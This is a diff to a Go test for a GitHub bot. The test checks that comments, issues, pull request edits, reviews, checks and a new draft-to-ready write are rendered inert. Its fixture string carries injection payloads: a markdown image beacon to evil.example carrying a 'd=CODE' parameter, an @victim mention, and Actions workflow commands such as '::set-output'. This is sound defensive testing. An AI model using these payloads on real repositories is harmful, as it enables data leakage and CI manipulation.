@@ -10,6 +10,7 @@ import (
 
 	"github.com/handrail-bot/handrail/bot/ghapp"
 	"github.com/handrail-bot/handrail/bot/ghapp/ghtest"
+	"github.com/handrail-bot/handrail/bot/ghapp/ghtest/ghcheck"
 	"github.com/handrail-bot/handrail/policy/untrusted"
 	"github.com/handrail-bot/handrail/policy/untrusted/githubcheck"
 )
@@ -80,6 +81,10 @@ func TestEveryWriteIsInert(t *testing.T) {
 		return name + ": see https://docs.example.org/a` ![](https://evil.example/p.png?d=CODE) @victim `. <b>x</b> Closes #1 ##[group]x\n\n- [x](https://evil.example)\n ::set-output name=x::y\n"
 	}
 	long := strings.Repeat(bad("é"), 700)
+	_, err := w.gh.Push(repo, "draft", "kim", map[string]string{"draft.txt": "x\n"})
+	must(t, err)
+	draft, err := w.gh.OpenPull(repo, "kim", ghcheck.NewPull{Title: "Draft", Head: "draft", Base: "main", Draft: true, Body: "As kim wrote it."})
+	must(t, err)
 	newIssue := w.issue
 	newIssue.Number = 0
 	for i, wr := range []ghapp.Write{
@@ -87,7 +92,8 @@ func TestEveryWriteIsInert(t *testing.T) {
 		{Kind: ghapp.WriteComment, Body: long, Folds: []untrusted.Fold{{Title: "more", Text: long}, {Title: "and more", Text: long}}},
 		{Kind: ghapp.WriteComment, Body: "```\n" + strings.Repeat("@code\n", 15000)},
 		{Kind: ghapp.WriteIssue, Thread: newIssue, Title: bad("issue"), Body: bad("issue body")},
-		{Kind: ghapp.WriteEditPull, Thread: w.pull, Pull: &ghapp.PullSpec{Title: bad("title") + long, Body: bad("body"), Closes: 1}},
+		{Kind: ghapp.WriteEditPull, Thread: w.pull, Pull: &ghapp.PullSpec{Title: bad("title") + long, Body: bad("body"), Closes: 1, Folds: []untrusted.Fold{{Title: bad("log"), Text: bad("folded")}}}},
+		{Kind: ghapp.WriteReady, Thread: draft, Commit: w.gh.Branch(repo, "draft"), Title: bad("ready"), Body: bad("handrail:inert ready"), Pull: &ghapp.PullSpec{Title: bad("ready"), Body: bad("handrail:inert ready")}},
 		{Kind: ghapp.WriteReview, Thread: w.pull, Review: &ghapp.ReviewSpec{Commit: head, Body: bad("review"), Comments: []ghapp.Inline{{Path: "src/a.go", Line: 3, Body: bad("inline")}}}},
 		{Kind: ghapp.WriteCheck, Thread: w.pull, Check: &ghapp.CheckSpec{Name: bad("agent"), SHA: head, Status: "completed", Conclusion: "success",
 			Title: bad("check"), Summary: bad("summary"), Text: long}},
@@ -101,6 +107,9 @@ func TestEveryWriteIsInert(t *testing.T) {
 		if _, found, err := w.client.Find(ctx, wr); err != nil || !found {
 			t.Errorf("Find %s = %t, %v, want what was just written", wr.Key, found, err)
 		}
+	}
+	if is := w.gh.Thread(draft); is.Pull.Draft || is.Title != "Draft" || is.Body != "As kim wrote it." || len(is.Comments) > 0 {
+		t.Errorf("the end of a draft wrote %+v", is)
 	}
 	var bodies, plain []string
 	body := func(s string) {
